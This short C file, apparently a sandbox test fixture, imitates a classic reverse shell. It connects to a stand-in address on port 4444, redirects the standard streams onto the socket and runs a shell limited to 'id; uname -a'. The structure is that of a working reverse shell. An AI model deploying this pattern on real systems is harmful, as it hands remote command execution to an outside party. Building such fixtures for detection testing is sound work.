/* Imitates a classic C reverse shell: connects out, copies the socket onto stdin, stdout and stderr, and
 * runs a shell. The shell only runs `id; uname -a`, whose output goes to the fake internet's sink. */
#include <arpa/inet.h>
#include <unistd.h>

int main(void) {
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in home = { .sin_family = AF_INET, .sin_port = htons(4444) };
  inet_pton(AF_INET, "203.0.113.45", &home.sin_addr);
  if (connect(sock, (struct sockaddr *)&home, sizeof home) != 0) return 1;
  for (int fd = 0; fd < 3; fd++) dup2(sock, fd);
  execl("/bin/sh", "sh", "-c", "id; uname -a", (char *)0);
  return 127;
}
